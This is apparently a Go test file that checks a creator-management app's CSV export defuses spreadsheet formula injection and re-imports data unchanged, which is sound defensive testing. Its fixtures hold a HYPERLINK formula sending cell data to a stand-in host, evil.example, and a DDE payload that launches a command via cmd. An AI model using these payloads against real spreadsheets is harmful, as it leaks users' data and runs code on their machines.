package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/rapport-dev/rapport/intake"
	"github.com/rapport-dev/rapport/partnership"
)

// What strangers wrote is opened by the brand in a spreadsheet: no cell of an export may run there, in whatever column, the header
// included; and what is imported again is what it was.
func TestAnExportRunsNoFormulaAndIsImportedAsItWas(t *testing.T) {
	for _, start := range []string{"=", "+", "-", "@"} {
		evil := start + `HYPERLINK("https://evil.example?x="&A1,"open")`
		was := partnership.Creator{ // niches are kept in lower case
			Handle: "ada.scents", Name: evil, Email: "ada@mail.example", Platform: "instagram", Followers: 9000, EngagementRate: 4.2, Niche: strings.ToLower(evil), Country: "US",
			Notes: evil, Extra: map[string]string{"agent": evil, start + "cmd|' /c calc'!a0": evil},
		}
		text, err := writeCreators([]partnership.Creator{was})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r") == 0 {
					t.Errorf("a cell begins a formula: %q", cell)
				}
			}
		}
		again, faults, _ := intake.ParseCreators("creators.csv", bytes.NewReader(text))
		if len(faults) > 0 || len(again) != 1 {
			t.Fatalf("it is not imported again: %v", faults)
		}
		again[0].ID = was.ID
		if diff := cmp.Diff(was, again[0]); diff != "" {
			t.Errorf("imported again it is another one (-was +is):\n%s", diff)
		}
	}
}

// Of old data: an import takes no control characters any more, and blanks at the start count for none.
func TestNoBlankHidesAFormulaInAnExport(t *testing.T) {
	for _, start := range []string{"\t=", "\r=", "\t", "\r\n="} {
		text, err := writeCreators([]partnership.Creator{{Handle: "ada.scents", Name: start + "1+1", Notes: start + "1+1"}})
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(string(text), "'"+start[:1]); n != 2 {
			t.Errorf("%q is marked in %d of 2 cells: %q", start, n, text)
		}
	}
}
